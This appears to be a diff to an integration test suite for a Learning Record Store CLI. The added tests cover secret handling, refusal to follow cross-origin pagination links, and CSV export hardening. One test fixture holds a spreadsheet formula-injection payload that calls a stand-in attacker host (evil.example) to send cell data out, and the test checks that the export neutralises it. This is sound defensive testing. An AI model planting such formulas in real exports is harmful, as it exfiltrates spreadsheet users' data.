@@ -3,30 +3,58 @@
 // Starts its own LRS with a throwaway state directory and stops its whole process group at the end.
 import assert from "node:assert/strict";
 import { spawn, spawnSync } from "node:child_process";
-import { mkdtempSync, readFileSync, rmSync, writeFileSync, existsSync } from "node:fs";
+import { once } from "node:events";
+import { createServer } from "node:http";
+import { mkdtempSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync, existsSync } from "node:fs";
 import { tmpdir } from "node:os";
-import { join } from "node:path";
+import { join, resolve } from "node:path";
 import { after, before, test } from "node:test";
 
+const root = resolve(import.meta.dirname, "..", "..");
 const port = process.env.LRS_CLI_TEST_PORT ?? "8850";
 const url = `http://127.0.0.1:${port}`;
-const token = "cli-test-admin-token";
+const token = `cli-test-admin-token-${crypto.randomUUID()}`;
+// A bootstrap secret wrangler's env-file parser would mangle if written naively ($ expansion, quotes, #).
+const bootstrap = { key: "cli-boot", secret: `b00t $HOME \${PATH} "q" 'q' #h \\$x ${crypto.randomUUID()}` };
+const varsFile = join(root, ".wrangler", "start-env", `${port}.env`);
 const dir = mkdtempSync(join(tmpdir(), "lrs-cli-"));
 let server;
 
-function lrs(args, extraEnv = {}) {
-  const result = spawnSync(process.execPath, ["scripts/lrs.mjs", ...args], {
+function run(args, extraEnv = {}) {
+  return spawnSync(process.execPath, ["scripts/lrs.mjs", ...args], {
+    cwd: root,
     env: { ...process.env, LRS_URL: url, LRS_ADMIN_TOKEN: token, ...extraEnv },
     encoding: "utf8",
   });
+}
+function lrs(args, extraEnv = {}) {
+  const result = run(args, extraEnv);
   if (result.status !== 0) throw new Error(`lrs ${args.join(" ")}: ${result.stderr}`);
   return result.stdout;
 }
 const lrsJson = (args, env) => JSON.parse(lrs(args, env));
 
+/** The CLI run without blocking this process (so an HTTP server here can answer it). */
+async function lrsAsync(args, extraEnv) {
+  const child = spawn(process.execPath, ["scripts/lrs.mjs", ...args], { cwd: root, env: { ...process.env, ...extraEnv } });
+  let stderr = "";
+  child.stderr.on("data", (chunk) => (stderr += chunk));
+  child.stdout.resume();
+  const [status] = await once(child, "exit");
+  return { status, stderr };
+}
+
 before(async () => {
   server = spawn(process.execPath, ["scripts/start.mjs"], {
-    env: { ...process.env, PORT: port, LRS_PERSIST_DIR: join(dir, "state"), LRS_ADMIN_TOKEN: token },
+    cwd: root,
+    env: {
+      ...process.env,
+      PORT: port,
+      LRS_PERSIST_DIR: join(dir, "state"),
+      LRS_ADMIN_TOKEN: token,
+      LRS_BOOTSTRAP_KEY: bootstrap.key,
+      LRS_BOOTSTRAP_SECRET: bootstrap.secret,
+    },
     stdio: "ignore",
     detached: true,
   });
@@ -39,8 +67,16 @@ before(async () => {
   throw new Error("the LRS did not start");
 });
 
-after(() => {
-  if (server?.pid) process.kill(-server.pid, "SIGTERM");
+/** Stops the LRS's process group and waits until start.mjs has exited. */
+async function stopServer() {
+  if (!server || server.exitCode !== null || server.signalCode !== null) return;
+  const exited = once(server, "exit");
+  process.kill(-server.pid, "SIGTERM");
+  await exited;
+}
+
+after(async () => {
+  await stopServer();
   rmSync(dir, { recursive: true, force: true });
 });
 
@@ -96,9 +132,94 @@ test("import stores good lines, reports bad ones, and a re-run imports nothing t
   assert.equal(comparable(exported).length, 60);
 
   const csv = lrs(["export", "--csv", "--agent", '{"mbox":"mailto:learner1@example.com"}'], as(source));
-  const rows = csv.trim().split("\n");
+  const rows = csv.trim().split("\r\n");
   assert.match(rows[0], /^id,timestamp,stored,actor/);
   assert.ok(rows.slice(1).every((row) => row.includes("mailto:learner1@example.com")));
+});
+
+test("export --csv: the console's columns, and a formula in a name is neutralised", async () => {
+  const { STATEMENT_CSV_COLUMNS } = await import("../../src/shared/statement-csv.mjs");
+  lrsJson(["stores", "create", "Formulas", "--id", "formulas"]);
+  const credential = lrsJson(["credentials", "create", "formulas"]);
+  const as = { LRS_KEY: credential.key, LRS_SECRET: credential.secret };
+  const file = join(dir, "formula.ndjson");
+  const name = '=HYPERLINK("http://evil.example/?"&A1,"open")';
+  writeFileSync(file, `${JSON.stringify({ ...statement(1), actor: { name, mbox: "mailto:mallory@example.com" } })}\n`);
+  lrsJson(["import", file], as);
+  const [header, row, ...rest] = lrs(["export", "--csv"], as).split("\r\n");
+  assert.deepEqual(rest, [""]);
+  assert.equal(header, STATEMENT_CSV_COLUMNS.join(","));
+  assert.match(row, /^"[0-9a-f-]{36}",/);
+  assert.ok(row.includes(`,"'=HYPERLINK(""http://evil.example/?""&A1,""open"")",`), row);
+  assert.ok(!/(^|,)"?\s*=/.test(row), `a cell starts a formula: ${row}`);
+});
+
+test("export refuses a more link to another origin, and sends the credential nowhere else", async () => {
+  const seen = [];
+  const trap = createServer((request, response) => {
+    seen.push(request.headers.authorization ?? "(none)");
+    response.end('{"statements":[]}');
+  });
+  const lrsLike = createServer((request, response) => {
+    response.setHeader("Content-Type", "application/json");
+    response.end(JSON.stringify({ statements: [statement(1)], more: `http://127.0.0.1:${trap.address().port}/xapi/statements?page=2` }));
+  });
+  await Promise.all([once(trap.listen(0, "127.0.0.1"), "listening"), once(lrsLike.listen(0, "127.0.0.1"), "listening")]);
+  try {
+    const result = await lrsAsync(["export", "--out", join(dir, "more.ndjson")], {
+      LRS_URL: `http://127.0.0.1:${lrsLike.address().port}`,
+      LRS_KEY: "k",
+      LRS_SECRET: "s",
+    });
+    assert.equal(result.status, 1);
+    assert.match(result.stderr, /refusing to follow more link http:\/\/127\.0\.0\.1:\d+\/xapi\/statements\?page=2: its origin is not/);
+    assert.deepEqual(seen, []);
+  } finally {
+    trap.close();
+    lrsLike.close();
+  }
+});
+
+test("the CLI refuses --token and --secret, and reads --token-file and --secret-file", () => {
+  for (const [args, variable] of [[["stores", "list", "--token", token], "LRS_ADMIN_TOKEN"], [["export", "--key", "k", "--secret", "s"], "LRS_SECRET"]]) {
+    const result = run(args);
+    assert.equal(result.status, 1);
+    assert.match(result.stderr, new RegExp(`--(token|secret) is refused: command lines are visible to every user of this machine \\(ps\\); set ${variable}`));
+  }
+  const tokenFile = join(dir, "token");
+  writeFileSync(tokenFile, `${token}\n`, { mode: 0o600 });
+  const stores = lrsJson(["stores", "list", "--token-file", tokenFile], { LRS_ADMIN_TOKEN: "" });
+  assert.ok(stores.some((store) => store.id === "default"));
+  lrsJson(["stores", "create", "Files", "--id", "files"]);
+  const credential = lrsJson(["credentials", "create", "files"]);
+  const secretFile = join(dir, "secret");
+  writeFileSync(secretFile, `${credential.secret}\n`, { mode: 0o600 });
+  const out = join(dir, "files.ndjson");
+  lrs(["export", "--key", credential.key, "--secret-file", secretFile, "--out", out], { LRS_KEY: "", LRS_SECRET: "" });
+  assert.equal(readFileSync(out, "utf8"), "");
+  const wrong = run(["export", "--key", credential.key, "--secret-file", tokenFile], { LRS_SECRET: "" });
+  assert.match(wrong.stderr, /401/);
+});
+
+test("npm start passes its secrets to the Worker in a 0600 file, never on a command line", async () => {
+  const commandLines = readdirSync("/proc")
+    .filter((entry) => /^\d+$/.test(entry))
+    .map((pid) => {
+      try {
+        return readFileSync(`/proc/${pid}/cmdline`, "utf8").replace(/\0/g, " ");
+      } catch {
+        return "";
+      }
+    });
+  assert.ok(commandLines.some((line) => line.includes(`--port ${port}`)), "the LRS's wrangler is running");
+  assert.deepEqual(commandLines.filter((line) => line.includes(token) || line.includes(bootstrap.secret)), []);
+  assert.equal(statSync(varsFile).mode & 0o777, 0o600);
+  // The bootstrap secret reached the Worker unchanged ($, quotes and # included).
+  const basic = (secret) => `Basic ${Buffer.from(`${bootstrap.key}:${secret}`).toString("base64")}`;
+  const get = (secret) =>
+    fetch(`${url}/xapi/statements?limit=1`, { headers: { Authorization: basic(secret), "X-Experience-API-Version": "2.0.0" } });
+  assert.equal((await get(bootstrap.secret)).status, 200);
+  assert.equal((await get(bootstrap.secret.replace(/\\\$/g, "$"))).status, 401);
 });
 
 test("erase-agent and store deletion run to completion", () => {
@@ -114,4 +235,10 @@ test("erase-agent and store deletion run to completion", () => {
   assert.equal(deleted.done, true);
   assert.ok(!lrsJson(["stores", "list"]).some((store) => store.id === "erase"));
   assert.ok(existsSync(`${file}.import-state`));
+});
+
+test("stopping npm start removes its env file", async () => {
+  assert.ok(existsSync(varsFile));
+  await stopServer();
+  assert.equal(existsSync(varsFile), false);
 });
